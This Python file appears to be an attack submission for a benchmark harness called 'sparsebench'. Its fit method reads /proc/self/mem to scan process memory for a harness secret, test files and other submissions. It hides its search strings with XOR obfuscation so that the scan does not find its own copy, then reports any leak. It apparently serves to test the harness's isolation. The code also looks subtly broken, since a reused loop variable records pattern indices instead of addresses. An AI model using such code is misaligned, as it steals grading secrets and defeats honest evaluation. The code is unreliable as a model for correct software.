"""Searches the memory it was started with for what its parent knows: the environment, tests, other submissions."""

import mmap

import numpy as np

import sparsebench as sb

# Part of a name in the harness's environment, of a file of tests, of another submission.
HIDDEN = [
    b"\x06\x05\x14\x07\x06\x10\x17\x10\x1b\x16\x1d\n\x01\x10\x06\x01\n\x06\x10\x16\x07\x10\x01",
    b";g`cx'a{%4'$ 0!",
    b"39::1&x<!&x: !% !",
]


class Attack(sb.Submission):
    def __init__(self, task, **settings):
        self.calls = 0

    def fit(self, train, valid, rng):
        # The words are kept in another form, and what is read goes where is not looked: nothing is to find itself.
        key = 0x55
        size = 1 << 24
        room = mmap.mmap(-1, size)
        numbers = np.frombuffer(room, dtype=np.uint8)
        found = []
        with open("/proc/self/maps") as maps:
            lines = maps.read().splitlines()
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            for line in lines:
                where, rights, *_ = line.split()
                start, end = (int(part, 16) for part in where.split("-"))
                if not rights.startswith("rw") or "[v" in line or start <= numbers.ctypes.data < end:
                    continue
                for place in range(start, end, size):
                    try:
                        numbers[:] = key
                        memory.seek(place)
                        memory.readinto(memoryview(room)[: min(size, end - place)])
                    except OSError:
                        break
                    numbers ^= key
                    found += [
                        place
                        for place, hidden in enumerate(HIDDEN)
                        if room.find(hidden, 0, min(size, end - place)) >= 0
                    ]
        raise RuntimeError(f"LEAK: {sorted(set(found))}" if found else "all refused: nothing found")

    def predict(self, params, x):
        return x @ params["w"]
